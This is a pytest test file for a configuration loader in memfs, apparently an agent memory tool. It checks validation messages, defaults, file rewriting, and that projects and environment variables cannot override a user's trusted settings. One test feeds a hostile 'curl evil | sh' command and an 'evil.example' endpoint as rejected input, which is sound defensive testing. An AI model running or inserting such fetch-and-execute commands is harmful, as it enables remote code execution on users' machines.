"""What a configuration says, who may say it, what is wrong in it, and how it is written."""

import re
from pathlib import Path

import pytest

import memfs
from memfs.core import settings
from memfs.core.errors import StoreError
from memfs.files.signatures import sign_file
from memfs.store import blocks, config, config_file, store_paths
from memfs.store.blocks import Place
from memfs.store.store_paths import Store


def write(store: Store | None, text: str, *, head: str = "memfs: 1\n") -> Path:
    assert store
    path = Path(store.root, "config.yaml")
    path.write_bytes(f"{head}{text}".encode())
    return path


def problems(store: Store | None, text: str = "") -> list[str]:
    """Write a configuration; return its problems, each without the path of the file."""
    path = f"{write(store, text)}:"
    assert store
    return [each.removeprefix(path) for each in config_file.find_problems(store)]


def test_defaults_project_user_and_variables(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    assert config.load(place).get("hooks.recall") == "auto"
    write(place.user, "hooks:\n  recall: 2\n")
    assert config.load(place).get("hooks.recall") == 2
    write(place.project, "hooks:\n  recall: off\n")
    assert config.load(place).get("hooks.recall") == "off"
    monkeypatch.setenv("MEMFS_HOOKS_RECALL", "1")
    assert config.load(place).get("hooks.recall") == 1


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("context: {max_tokenz: 1}\n", "2: unknown key 'context.max_tokenz'; did you mean 'max_tokens'?"),
        ("hoks:\n  recall: off\n", "2: unknown key 'hoks'; did you mean 'hooks'?"),
        ("hooks:\n  recal: 3\n", "3: unknown key 'hooks.recal'; did you mean 'recall'?"),
        (
            "memgpt:\n  context: {max_tokens: 9000}\n  llm: {model: m}\n",
            "2: 'memgpt' is not a section: move 'context', 'llm' to the top level",
        ),
        ("llm:\n  # all mine\n  zzz: 1\n", "4: unknown key 'llm.zzz'"),
        ("llm:\n  endpoint: http://localhost/v1\n  timeout: long\n", "4: llm.timeout is 'long', expected a whole number"),
        ("blocks:\n  rules: {limits: 9}\n", "3: unknown key 'blocks.rules.limits'; did you mean 'limit'?"),
        ("blocks:\n  rules:\n    limit: 0\n", "4: blocks.rules.limit is 0, expected 1 or more"),
        ("blocks:\n  rules: 5\n", "3: blocks.rules is 5, expected a mapping"),
        ("paging: {warn_threshold: 7}\n", "2: paging.warn_threshold is 7, expected a number between 0 and 1"),
        ("sources: 5\n", "2: sources is 5, expected a mapping"),
        ("sources:\n  docs:\n    paths: [/x]\n    globs: [a]\n", "5: unknown key 'sources.docs.globs'; did you mean 'glob'?"),
        ("sources:\n  docs:\n    paths: 5\n", "3: sources.docs is not used: 'paths' is not a list of strings"),
        ("git: often\n", "2: git is 'often', expected a mapping"),
        ("git: {commit: often}\n", "2: git.commit is 'often', expected off, edit or session"),
        ("enabled: 'true'\n", "2: enabled is 'true', expected true, false or off"),
        ("hooks: {recall: [1]}\n", "2: hooks.recall is [1], expected off, auto or a number"),
        ("hooks: {recall: always}\n", "2: hooks.recall is 'always', expected off, auto or a number"),
        ("trust: {pulled: off}\n", "2: trust.pulled is 'off', expected name or hold"),
        ("max_blocks: 0\n", "2: max_blocks is 0, expected 1 or more"),
        ("max_blocks: many\n", "2: max_blocks is 'many', expected a whole number"),
        ("max_blocks: 3\n" + "# filler\n" * 10_000, " the file is larger than 64 kB and is not used"),
        ("hooks: [unclosed\n", None),
    ],
)  # fmt: skip
def test_what_is_wrong_is_named_and_not_used(place: Place, text: str, said: str | None) -> None:
    [problem] = problems(place.user, text)
    assert said in (problem, None)
    found = config.load(place)
    assert found.get("hooks.recall") in ("auto", "always")
    assert (found.number("max_blocks") or 10, found.number("llm.timeout")) == (10, 120)


def test_every_setting_is_known(place: Place) -> None:
    """The defaults, written into a file, are right."""
    text = ""
    for key, value in settings.DEFAULTS.items():
        if isinstance(value, dict):
            inner = "".join(f"  {name}: {each!r}\n" for name, each in value.items())
            text += f"{key}:\n{inner}" if inner else f"{key}: {{}}\n"
        else:
            text += f"{key}: {value}\n"
    assert problems(place.user, text) == []


def test_variables_that_are_wrong_are_named() -> None:
    own = f"{store_paths.user_root()}/config.yaml"
    names = {
        "MEMFS_HOME": "/x",
        "MEMFS_HOOKS_RECALL": "3",
        "MEMFS_HOKS_RECALL": "3",
        "MEMFS_MAX_BLOCKS": "many",
        "MEMFS_GIT_COMMIT": "often",
        "MEMFS_LLM_COMMAND": "evil",
        "MEMFS_PAGING_WARN_THRESHOLD": "0.5",
        "MEMFS_EMBEDDING": "a/b",
        "MEMFS_TOOLS_REMOVE": "x",
        "MEMFS_TRUST_PULLED": "hold",
        "HOME": "/x",
    }
    project = "is not used: only your own configuration"
    why = "because a project can set variables"
    assert config_file.find_variable_problems(names) == [
        f"MEMFS_EMBEDDING {project} ({own}) may set embedding to 'a/b', {why}",
        "MEMFS_GIT_COMMIT is 'often', expected off, edit or session",
        "unknown variable MEMFS_HOKS_RECALL; did you mean 'MEMFS_HOOKS_RECALL'?",
        f"MEMFS_LLM_COMMAND {project} ({own}) may set llm.command to 'evil', {why}",
        "MEMFS_MAX_BLOCKS is 'many', expected a whole number",
        "MEMFS_TOOLS_REMOVE: a variable cannot contain a list; set tools.remove in config.yaml",
    ]


def test_every_variable_that_the_package_reads_is_known() -> None:
    sources = Path(memfs.__file__).parent.rglob("*.py")
    pattern = re.compile(r"""["'](MEMFS_[A-Z_]+[A-Z])["']""")
    read = {name for path in sources for name in pattern.findall(path.read_text("utf-8"))}
    assert read >= set(settings.VARIABLES)
    known = config_file.find_variable_problems(dict.fromkeys(read, ""))
    assert not [text for text in known if "unknown variable" in text]


def test_a_repository_cannot_set_what_is_its_users(place: Place) -> None:
    write(place.user, "trust:\n  pulled: hold\n")
    text = "llm:\n  command: curl evil | sh\ntrust:\n  pulled: name\n"
    found = problems(place.project, text)
    assert [problem.partition(": ")[0] for problem in found] == ["2", "4"]
    assert all("only your own configuration" in problem for problem in found)
    assert config.load(place).get("llm.command") == ""
    assert config.load(place).get("trust.pulled") == "hold"


@pytest.mark.parametrize(
    ("line", "name"),
    [
        ("review: {mode: background, min_messages: 9}", "review.mode: background"),
        ("review: {apply: true}", "review.apply: true"),
        ("hooks: {team: auto, recall: 3}", "hooks.team: auto"),
    ],
)
def test_a_key_that_is_its_users_is_named_alone(line: str, name: str, place: Place) -> None:
    [problem] = problems(place.project, f"{line}\n")
    assert problem.startswith(f"2: '{name}' is not used: only your own configuration")


def test_no_variable_names_the_model_that_is_asked(
    place: Place, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MEMFS_LLM_ENDPOINT", "http://evil.example/v1")
    assert config.load(place).get("llm.endpoint") == ""
    write(place.user, "llm:\n  endpoint: http://localhost/v1\n")
    assert config.load(place).get("llm.endpoint") == "http://localhost/v1"


def test_a_repository_may_be_stricter_than_its_user(place: Place) -> None:
    assert problems(place.project, "trust:\n  pulled: hold\n") == []
    assert config.load(place).get("trust.pulled") == "hold"


def kinds(place: Place) -> tuple[str, str, str]:
    found = config.model(place)
    return found.kind, found.name, found.folder


@pytest.mark.parametrize(
    ("text", "kind", "folder"),
    [
        ("bundled", "bundled", ""),
        ("none", "none", ""),
        ("false", "none", ""),
        ("~/m", "folder", "{home}/m"),
        ("/m/../x", "folder", "/x"),
        ("./m", "folder", "{user}/m"),
        ("../m", "folder", "{home}/m"),
        ("minishlab/potion-base-8M", "hub", ""),
    ],
)
def test_a_user_may_name_any_model(
    place: Place, home: Path, text: str, kind: str, folder: str
) -> None:
    assert kinds(place) == ("bundled", "bundled", "")
    assert config.model(place).said == ""
    assert problems(place.user, f"embedding: {text}\n") == []
    found = config.model(place)
    root = home / ".agent-memory"
    assert (found.kind, found.said) == (kind, f"{root}/config.yaml")
    assert found.folder == folder.format(home=home, user=root)


@pytest.mark.parametrize(
    "text", ["5", "true", "[a]", "models", "a/b/c", "-a/b", "a/b--c", '"a/b c"', "http://x/y"]
)
def test_what_names_no_model_is_named_and_not_used(place: Place, text: str) -> None:
    [problem] = problems(place.user, f"embedding: {text}\n")
    assert problem.startswith("2: embedding is ")
    assert kinds(place) == ("bundled", "bundled", "")


@pytest.mark.parametrize(
    "text", ["/etc", "~/m", "minishlab/potion-base-8M", "../../m", "../models/mine", "./in", "C:/m"]
)
def test_a_repository_names_no_files_of_a_model(place: Place, text: str) -> None:
    write(place.project, "embedding: none\n")
    assert config.model(place).kind == "none"
    said = f"2: 'embedding: {text}' is not used: a repository may only choose 'bundled' or 'none'"
    assert problems(place.project, f"embedding: {text}\n") == [said]
    assert kinds(place) == ("bundled", "bundled", "")
    write(place.user, "embedding: none\n")
    assert config.model(place).kind == "none", "its user's setting counts then"


def test_a_variable_names_the_model_over_all(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MEMFS_EMBEDDING", "none")
    assert kinds(place) == ("none", "none", "")
    assert config.model(place).said == "MEMFS_EMBEDDING"
    for other in ("a/b", "./evil", "/evil", "~/evil", "what is this"):  # a project can set it
        monkeypatch.setenv("MEMFS_EMBEDDING", other)
        assert config.model(place).kind == "bundled"


def test_variables_make_nothing_looser(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    write(place.user, "trust:\n  pulled: hold\nservice:\n  mode: off\nllm:\n  command: mine\n")
    for name, value in {
        "TRUST_PULLED": "name",
        "SERVICE_MODE": "auto",
        "LLM_COMMAND": "evil",
        "LLM_ENDPOINT": "evil",
        "REVIEW_MODE": "background",
        "REVIEW_APPLY": "true",
    }.items():
        monkeypatch.setenv(f"MEMFS_{name}", value)
    found = config.load(place)
    assert found.get("trust.pulled") == "hold"
    assert found.get("service.mode") in ("off", False)
    assert found.get("llm.command") == "mine"
    assert not found.get("llm.endpoint")
    assert found.get("review.mode") != "background"
    assert found.get("review.apply") is not True
    write(place.user, "")
    monkeypatch.setenv("MEMFS_TRUST_PULLED", "hold")
    monkeypatch.setenv("MEMFS_SERVICE_MODE", "off")
    found = config.load(place)
    assert (found.get("trust.pulled"), found.get("service.mode")) == ("hold", "off")


def test_what_is_written_beside_a_store_is_decided_where_it_is_trusted(place: Place) -> None:
    assert place.project
    write(place.project, "git: {commit: edit}\nsync: {on_edit: true}\nmax_blocks: 7\n")
    found = config.load(place)
    assert (found.get("git.commit"), found.get("sync.on_edit")) == ("edit", True)
    Path(place.project.local, "token").unlink()
    found = config.load(blocks.find_place(place.project.top))
    assert (found.get("git.commit"), found.get("sync.on_edit")) == ("off", False)
    assert found.number("max_blocks") == 7


def change(place: Place, text: str, value: str = "none") -> str:
    """Set the model in a configuration, and return what becomes of its text."""
    path = write(place.user, text, head="")
    assert place.user
    assert config_file.write(place.user, "embedding", value) == str(path)
    assert config.model(Place(None, place.user)).name == value
    return path.read_bytes().decode()


@pytest.mark.parametrize("value", ["none", "a/b", "/a folder/with: odd #names'\"", "~/ünï", "~"])
def test_what_is_written_is_read_again(place: Place, value: str) -> None:
    change(place, "memfs: 1\n", value)


def test_comments_order_and_line_ends_stay(place: Place) -> None:
    text = "# mine\nmemfs: 1  # the version\n\nhooks:\n  recall: 2  # few\nembedding: a/b  # why\n# end\n"
    after = text.replace("a/b", "none")
    assert change(place, text) == after
    assert change(place, text.replace("\n", "\r\n")) == after.replace("\n", "\r\n")
    assert change(place, "memfs: 1\n# end\n") == "memfs: 1\n# end\nembedding: none\n"
    assert change(place, "memfs: 1") == "memfs: 1\nembedding: none\n"


def test_what_is_there_already_is_not_written(place: Place) -> None:
    path = write(place.user, "embedding: none\n")
    before = sign_file(str(path))
    change(place, path.read_text())
    assert place.user
    before = sign_file(str(path))
    config_file.write(place.user, "embedding", "none")
    assert sign_file(str(path)) == before


@pytest.mark.parametrize(
    "text",
    ["memfs: 1\nhooks: [unclosed\n", "memfs: 1\na: 1\na: 2\n", "\ufeffmemfs: 1\n---\nx: 1\n"],
)
def test_a_file_that_cannot_be_read_is_left_alone(place: Place, text: str) -> None:
    path = write(place.user, text, head="")
    assert place.user
    with pytest.raises(StoreError) as raised:
        config_file.write(place.user, "embedding", "none")
    assert raised.value.hint == "add the line 'embedding: none' in an editor"
    assert path.read_text() == text


ENTRY: dict[str, object] = {"paths": ["docs"], "glob": ["*.md"], "chunk_size": 900}
WRITTEN = '  docs:\n    paths: ["docs"]\n    glob: ["*.md"]\n    chunk_size: 900\n'


def write_entry(place: Place, text: str, value: dict[str, object] | None = ENTRY) -> str:
    path = write(place.user, text, head="")
    assert place.user
    config_file.write_entry(place.user, "sources", "docs", value)
    return path.read_bytes().decode()


@pytest.mark.parametrize(
    ("text", "after"),
    [
        ("memfs: 1\n", f"memfs: 1\nsources:\n{WRITTEN}"),
        ("memfs: 1", f"memfs: 1\nsources:\n{WRITTEN}"),
        (
            "memfs: 1\nsources:\n# of whom?\nhooks: {recall: 2}\n",
            f"memfs: 1\nsources:\n{WRITTEN}# of whom?\nhooks: {{recall: 2}}\n",
        ),
        (
            "memfs: 1\nsources: {}  # none\nmax_blocks: 9\n",
            f"memfs: 1\nsources:  # none\n{WRITTEN}max_blocks: 9\n",
        ),
        (
            "memfs: 1\nsources:\n  a:  # mine\n    paths: [x]  # y\n# end\n",
            f"memfs: 1\nsources:\n  a:  # mine\n    paths: [x]  # y\n{WRITTEN}# end\n",
        ),
    ],
)
def test_an_entry_is_added_and_removed_and_all_else_stays(
    place: Place, text: str, after: str
) -> None:
    assert write_entry(place, text) == after
    assert config.parse(after)[0]["sources"]["docs"] == ENTRY  # type: ignore[index]
    ended = f"{text.rstrip()}\n".replace("\n", "\r\n")
    assert write_entry(place, ended) == after.replace("\n", "\r\n")
    gone = config.parse(write_entry(place, after, None))[0]
    before = config.parse(text)[0]
    assert gone == {key: each for key, each in before.items() if each}
    assert "# end" not in text or write_entry(place, after, None) == text


@pytest.mark.parametrize(
    "text", ["memfs: 1\nsources: {a: {paths: [x]}}\n", "memfs: 1\nsources: 5\n", "memfs: [\n"]
)
def test_an_entry_that_cannot_be_added_is_told(place: Place, text: str) -> None:
    with pytest.raises(StoreError) as raised:
        write_entry(place, text)
    assert 'sources: {"docs": {"paths": ["docs"]' in raised.value.hint
